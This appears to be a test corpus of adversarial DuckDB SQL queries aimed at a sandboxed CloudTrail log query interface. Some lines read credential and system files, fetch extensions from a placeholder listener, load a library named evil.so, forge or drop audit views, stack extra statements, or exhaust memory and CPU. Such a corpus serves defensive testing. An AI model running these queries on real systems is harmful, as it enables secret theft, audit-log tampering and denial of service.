SELECT * FROM read_csv('$SECRET')
SELECT * FROM read_text('$SECRET')
SELECT * FROM read_blob('$SECRET')
SELECT * FROM read_json('$SECRET')
SELECT * FROM read_json_auto('$SECRET')
SELECT * FROM read_parquet('$SECRET')
SELECT * FROM parquet_scan('$SECRET')
SELECT * FROM '$SECRET'
SELECT * FROM "$SECRET"
SELECT * FROM glob('$DIR/*')
SELECT * FROM glob('/etc/*')
SELECT * FROM sniff_csv('$SECRET')
SELECT * FROM read_text('/etc/passwd')
SELECT * FROM read_text('/proc/self/environ')
SELECT * FROM read_text('/proc/self/maps')
SELECT * FROM read_csv('http://$LISTEN/x.csv')
SELECT * FROM 'http://$LISTEN/x.parquet'
SELECT * FROM read_parquet('s3://bucket/$LISTEN')
SELECT content FROM read_text('file://$SECRET')
COPY (SELECT 1) TO '$DIR/out.csv'
COPY (SELECT 1) TO '$DIR/out.parquet' (FORMAT parquet)
COPY (SELECT 1) TO '/dev/stdout'
CREATE TABLE x AS SELECT 1
CREATE VIEW ct_trail AS SELECT 1
CREATE OR REPLACE VIEW ct_trail AS SELECT 'forged' AS eventname
CREATE MACRO f(x) AS x
CREATE SECRET s (TYPE s3, KEY_ID 'a', SECRET 'b')
INSERT INTO ct_rows VALUES (1)
UPDATE ct_rows SET eventname = 'x'
DELETE FROM ct_rows
DROP VIEW ct_trail
DROP TABLE ct_rows
ALTER TABLE ct_rows ADD COLUMN x INTEGER
TRUNCATE ct_rows
ATTACH '$DIR/x.db'
ATTACH '$DIR/x.db' AS y (READ_ONLY)
ATTACH ':memory:' AS z
DETACH memory
USE memory
EXPORT DATABASE '$DIR/export'
IMPORT DATABASE '$DIR'
INSTALL httpfs
LOAD httpfs
LOAD '$DIR/evil.so'
FORCE INSTALL httpfs FROM 'http://$LISTEN'
SET enable_external_access = true
SET lock_configuration = false
SET memory_limit = '100GB'
SET threads = 64
SET temp_directory = '$DIR'
SET allowed_paths = ['$SECRET']
SET disabled_filesystems = ''
SET search_path = 'temp'
SET VARIABLE x = 1
RESET enable_external_access
PRAGMA database_list
PRAGMA enable_profiling = 'json'
PRAGMA profiling_output = '$DIR/profile.json'
PRAGMA disable_optimizer
CALL pragma_version()
CHECKPOINT
VACUUM
BEGIN TRANSACTION
SELECT 1; DROP VIEW ct_trail
SELECT 1; COPY (SELECT 1) TO '$DIR/out2.csv'
SELECT 1;;SELECT 2
SELECT repeat('x', 2000000000)
SELECT length(repeat('x', 2000000000))
SELECT repeat(repeat('x', 100000), 100000)
SELECT list_transform(range(1000000000), x -> x)
SELECT sequence(1, 1000000000)
SELECT array_agg(x) FROM UNNEST(sequence(1, 1000000000)) AS t(x)
SELECT lpad('x', 2000000000, 'y')
SELECT count(*) FROM UNNEST(sequence(1, 100000)) AS a(x) CROSS JOIN UNNEST(sequence(1, 100000)) AS b(y) CROSS JOIN UNNEST(sequence(1, 100000)) AS c(z)
WITH RECURSIVE t(n) AS (SELECT 1 UNION ALL SELECT n + 1 FROM t) SELECT count(*) FROM t
WITH RECURSIVE t(n) AS (SELECT 'x' UNION ALL SELECT n || n FROM t) SELECT max(length(n)) FROM t
SELECT array_agg(a.eventname || b.eventname || c.eventname) FROM cloudtrail_logs a, cloudtrail_logs b, cloudtrail_logs c
SELECT count(*) FROM cloudtrail_logs a, cloudtrail_logs b, cloudtrail_logs c, cloudtrail_logs d
SELECT regexp_like(repeat('a', 100000), '(a+)+$')
SELECT regexp_replace('a', 'a', '$1$1$1')
SELECT current_setting('memory_limit')
SELECT getenv('HOME')
SELECT * FROM duckdb_settings()
SELECT * FROM duckdb_secrets()
SELECT * FROM pg_catalog.pg_tables
SELECT * FROM information_schema.tables
SELECT * FROM query('SELECT 1')
SELECT * FROM query_table('ct_rows')
SELECT * FROM ct_stream()
SELECT * FROM arrow_scan(1, 2, 3)
SELECT write_log('x')
SELECT nextval('x')
EXPLAIN ANALYZE COPY (SELECT 1) TO '$DIR/out3.csv'
EXPLAIN DROP VIEW ct_trail
DESCRIBE '$SECRET'
SUMMARIZE '$SECRET'
PIVOT ct_rows ON 1
FROM '$SECRET'
FROM read_text('$SECRET')
TABLE '$SECRET'
